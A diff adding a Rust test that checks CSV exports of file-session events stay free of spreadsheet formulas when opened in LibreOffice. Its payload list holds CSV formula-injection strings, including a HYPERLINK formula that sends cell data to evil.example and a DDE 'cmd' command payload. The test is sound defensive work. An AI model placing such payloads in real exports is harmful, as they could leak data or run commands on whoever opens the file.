@@ -1,8 +1,11 @@
 //! Exports: both forms hold everything, and nothing in them acts.
 
+use std::{fs, path::Path, process::Command, time::Duration};
+
 use axum::http::{Method, StatusCode};
 use serde_json::json;
 use sojourn_domain::files::{FileAction, FileOutcome};
+use sojourn_testbed::{run, skip};
 
 use super::{begin, event, new, seed_time, somewhere, upload};
 use crate::house::House;
@@ -112,4 +115,79 @@ async fn a_name_from_outside_neither_breaks_a_header_nor_is_a_formula() {
         assert!(row.contains(cell), "{cell} in {row}");
     }
     assert_eq!(answer.text.lines().count(), 2);
+}
+
+/// Every way that is known of beginning a formula, as a name on a target.
+const FORMULAS: [&str; 16] = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1;1)",
+    " =1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\"=1+1\"",
+    "'=1+1",
+    "＝1+1",
+    "\u{feff}=1+1",
+    "=HYPERLINK(\"http://evil.example/\"&A1)",
+    "=cmd|' /C calc'!A0",
+    "a;=1+1",
+    "a\";=1+1;\"",
+];
+
+/// Opens a CSV in LibreOffice, with cells between `separator`s and formulas executed, and returns the sheet in XML.
+fn opened(folder: &Path, name: &str, text: &str, separator: char) -> String {
+    let file = folder.join(name).with_extension("csv");
+    fs::write(&file, text).unwrap();
+    let mut office = Command::new("soffice");
+    office
+        .arg(format!("-env:UserInstallation=file://{}", folder.join("profile").display()))
+        .args(["--headless", "--norestore", "--convert-to", "fods", "--outdir"])
+        .arg(folder)
+        .arg(format!(
+            "--infilter=CSV:{},34,76,1,,0,false,true,false,false,false,-1,true",
+            u32::from(separator)
+        ))
+        .arg(&file);
+    run::output(office, Duration::from_secs(300)).ok();
+    fs::read_to_string(file.with_extension("fods")).unwrap()
+}
+
+#[tokio::test]
+async fn a_spreadsheet_finds_no_formula_in_it() {
+    if Command::new("soffice").arg("--version").output().is_err() {
+        skip::whole("LibreOffice is not installed");
+        return;
+    }
+    let house = House::new().await;
+    let alice = house.user("alice", "user").await;
+    let mut new = new((alice, "alice"), somewhere(), seed_time(0));
+    new.connection_name = FORMULAS[0].to_owned();
+    let id = begin(&house, new, false).await;
+    let events: Vec<_> = FORMULAS
+        .into_iter()
+        .zip(0..)
+        .map(|(text, second)| {
+            let mut event = event(seed_time(second), FileAction::Rename, text);
+            event.fact.new_path = Some(text.to_owned());
+            event.fact.outcome = FileOutcome::Failed;
+            event.fact.error = text.to_owned();
+            event
+        })
+        .collect();
+    house.store.file_events_add(id, &events).await.unwrap();
+    let own = house.token(alice, None).await;
+    let csv = house.get(&format!("/file-sessions/{id}/export?format=csv")).r#as(&own).await.text;
+    let folder = tempfile::tempdir().unwrap();
+    for (name, separator) in [("comma", ','), ("semicolon", ';')] {
+        let sheet = opened(folder.path(), name, &csv, separator);
+        let found = sheet.find("table:formula").map(|at| &sheet[at..(at + 200).min(sheet.len())]);
+        assert_eq!(found, None, "{name}: {csv}");
+        assert!(sheet.contains(&id.to_string()), "{sheet}");
+    }
+    // It would have found one.
+    let bare = opened(folder.path(), "bare", "a,b\r\n=1+1,2\r\n", ',');
+    assert!(bare.contains("table:formula"), "{bare}");
 }
